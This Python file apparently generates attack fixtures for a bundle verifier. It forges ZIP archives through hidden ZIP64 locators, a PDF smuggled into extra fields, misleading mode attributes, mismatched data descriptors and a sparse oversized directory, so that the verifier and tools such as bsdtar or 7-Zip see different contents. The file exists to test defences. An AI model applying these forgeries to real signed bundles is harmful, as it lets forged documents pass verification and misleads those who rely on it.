"""The forging script for issue 46's zip attacks: each takes the genuine bundle zip and returns the bytes an attacker
would hand a reader, so that `verify` reads one thing and `bsdtar`, 7-Zip or a PDF viewer another. Nothing here
checks anything."""

from __future__ import annotations

import struct
import zlib
from dataclasses import replace

from zip_forgery import RawEntry, entries_of, write_zip

NOTE = "ex/data/decision-note.pdf"
UNKNOWN = 0x4147  # an extra field ID no tool defines: the old layout check let any such block through


def _block(ident: int, payload: bytes) -> bytes:
    return struct.pack("<HH", ident, len(payload)) + payload


def _with_last_extra(entries: list[RawEntry], payload_for: object) -> bytes:
    """The zip whose last central entry ends with an unknown extra block; `payload_for(base)` makes its payload
    knowing the absolute offset `base` where the payload will lie (its length must not depend on `base`)."""
    probe = payload_for(0)  # type: ignore[operator]
    last = replace(entries[-1], central_extra=entries[-1].central_extra + _block(UNKNOWN, b"\0" * len(probe)))
    data = write_zip([*entries[:-1], last])
    base = len(data) - 22 - len(probe)
    payload = payload_for(base)  # type: ignore[operator]
    assert len(payload) == len(probe)
    return data[:base] + payload + data[-22:]


def hidden_zip64_locator(genuine: bytes, fake: bytes) -> bytes:
    """A ZIP64 end locator as the last 20 bytes of the last central entry's extra field, right before the end
    record, pointing to a ZIP64 end record and a second central directory hidden in the same field, which lists
    a forged `decision-note.pdf`. `unzip`, zipfile and the old `verify` read the genuine directory; `bsdtar`
    and 7-Zip follow the locator."""
    name = NOTE.encode()
    crc = zlib.crc32(fake)
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = co.compress(fake) + co.flush()  # deflated: no PDF text in the zip's own bytes

    def payload(base: int) -> bytes:
        local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x0800, 8, 0, 0x21, crc, len(packed), len(fake),
                            len(name), 0) + name + packed
        central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x0314, 20, 0x0800, 8, 0, 0x21, crc,
                              len(packed), len(fake), len(name), 0, 0, 0, 0, 0o100644 << 16, base) + name
        end64_at = base + len(local) + len(central)
        end64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(central), base + len(local))
        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end64_at, 1)
        return local + central + end64 + locator

    return _with_last_extra(entries_of(genuine), payload)


def pdf_in_extra_fields(genuine: bytes, fake: bytes) -> bytes:
    """The genuine zip carrying a forged PDF in its last central entry's extra field, its `%PDF-` header
    renamed and its `startxref ... %%EOF` right before the end record: named `decision-note.pdf`, poppler
    renders the forgery while the zip verified."""
    hidden = fake.replace(b"%PDF-", b"%XDF-")
    return _with_last_extra(entries_of(genuine), lambda base: hidden)


def xl_mode(genuine: bytes, mode: int) -> bytes:
    """The note's local header with a libarchive 'xl' field (0x6c78) giving a Unix system and `mode`: the
    central directory still says a plain 0644 file."""
    xl = _block(0x6C78, b"\x05" + struct.pack("<HI", 0x0314, mode << 16))
    entries = [replace(e, local_extra=xl) if e.name == NOTE.encode() else e for e in entries_of(genuine)]
    return write_zip(entries)


def dos_folder(genuine: bytes) -> bytes:
    """The note's entry written by an MS-DOS system with the DOS directory attribute and no Unix mode: bsdtar
    and 7-Zip make a folder of it."""
    entries = [replace(e, made_by=0x0014, mode=0, dos=0x10) if e.name == NOTE.encode() else e
               for e in entries_of(genuine)]
    return write_zip(entries)


def wide_descriptors(genuine: bytes) -> bytes:
    """Every entry streamed with a data descriptor of ZIP64 width (8-byte sizes) while no header carries a ZIP64
    field: bsdtar reading a pipe takes the descriptor as 4-byte sizes and the rest as the next entry."""
    return write_zip([replace(e, descriptor="64") for e in entries_of(genuine)])


def sparse_claim(size: int = 2 << 30) -> tuple[bytes, int, bytes]:
    """A zip of `size` bytes, almost all a hole: one entry, then an end record claiming a central directory that
    fills the rest. Returns the head to write at 0, the end record's offset and the end record."""
    head = write_zip([RawEntry(b"ex/a", b"a")])
    cd_at = head.index(b"PK\x01\x02")
    head = head[:cd_at]
    end_at = size - 22
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, end_at - cd_at, cd_at, 0)
    return head, end_at, end
